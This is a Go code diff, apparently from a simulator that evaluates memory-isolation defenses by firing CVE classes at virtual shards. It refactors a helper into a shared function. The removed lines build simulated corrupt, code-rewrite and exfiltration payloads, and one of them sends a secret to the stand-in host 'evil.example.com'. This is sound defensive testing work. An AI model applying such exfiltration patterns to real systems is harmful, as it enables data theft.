@@ -12,7 +12,6 @@ import (
 	"freepart.dev/freepart/internal/framework"
 	"freepart.dev/freepart/internal/framework/all"
 	"freepart.dev/freepart/internal/isolation"
-	"freepart.dev/freepart/internal/mem"
 	"freepart.dev/freepart/internal/vclock"
 )
 
@@ -111,9 +110,8 @@ const (
 // full clean window and the anneal arc completes inside one campaign.
 func defenseParams() defense.Params {
 	return defense.Params{
-		Floor:            isolation.ERIM(),
-		CleanWindow:      vclock.Duration(10 * time.Microsecond),
-		QuarantineWindow: vclock.Duration(10 * time.Microsecond),
+		Floor:       isolation.ERIM(),
+		CleanWindow: vclock.Duration(10 * time.Microsecond),
 	}
 }
 
@@ -145,71 +143,24 @@ func probeCVEs() []attack.CVE {
 	return out
 }
 
-// fireCVEOnShard plants fresh attack targets in the shard's host — a
-// registered critical secret and an r-x code region — then drives the
-// exploit through the CVE's own API site and reads the class verdict,
-// exactly as the isolation frontier does, but on a live serving shard.
-// The pre-attack network length anchors the exfiltration verdict so one
-// shard can absorb several attacks without polluting later verdicts.
+// fireCVEOnShard fires one CVE live on a serving shard through the same
+// path as the isolation frontier and reads its class verdict. A host that
+// survives has its dead agents restarted before the next request.
 func fireCVEOnShard(sh *core.Shard, cve attack.CVE) (blocked, hostDied bool, err error) {
 	rt := sh.Rt
 	if rt == nil {
 		return false, false, fmt.Errorf("report: shard %d has no runtime", sh.ID)
 	}
-	crit, err := rt.Host.Space().Alloc(32)
+	v, err := fireCVE(rt, cve)
 	if err != nil {
 		return false, false, err
 	}
-	if err := rt.Host.Space().Store(crit.Base, []byte("sensitive")); err != nil {
-		return false, false, err
-	}
-	rt.RegisterCritical(crit)
-
-	code, err := rt.Host.Space().Alloc(64)
-	if err != nil {
-		return false, false, err
-	}
-	codeBytes := []byte("TRUSTED-CODE-SEG")
-	if err := rt.Host.Space().Store(code.Base, codeBytes); err != nil {
-		return false, false, err
-	}
-	if _, err := rt.Host.Space().ProtectRegion(code, mem.PermRead|mem.PermExec); err != nil {
-		return false, false, err
-	}
-	netBefore := len(sh.K.Net.Sent())
-
-	var payload []byte
-	switch cve.Class {
-	case attack.ClassMemWrite:
-		payload = attack.Corrupt(cve.ID, crit.Base, []byte("OWNED"))
-	case attack.ClassMemRead:
-		payload = attack.Exfiltrate(cve.ID, crit.Base, 9, "evil.example.com")
-	case attack.ClassRCE:
-		payload = attack.CodeRewrite(cve.ID, code.Base, len(codeBytes))
-	default:
-		payload = attack.DoS(cve.ID)
-	}
-	driveIsolationCVE(sh.K, rt, cve, payload)
-
-	switch cve.Class {
-	case attack.ClassMemWrite:
-		data, _ := rt.Host.Space().Load(crit.Base, 9)
-		blocked = string(data) == "sensitive"
-	case attack.ClassMemRead:
-		blocked = len(sh.K.Net.Sent()) == netBefore
-	case attack.ClassRCE:
-		data, _ := rt.Host.Space().Load(code.Base, len(codeBytes))
-		blocked = string(data) == string(codeBytes)
-	default:
-		blocked = rt.Host.Alive()
-	}
-	hostDied = !rt.Host.Alive()
-	if !hostDied {
+	if v.hostAlive {
 		// Availability first: a process-tier exploit kills only its
 		// agent; the supervisor restarts it before the next request.
 		_ = rt.RestartDead()
 	}
-	return blocked, hostDied, nil
+	return v.blocked(cve.Class), !v.hostAlive, nil
 }
 
 // deliverAttack sends one exploit from a tenant into the pool: front-door
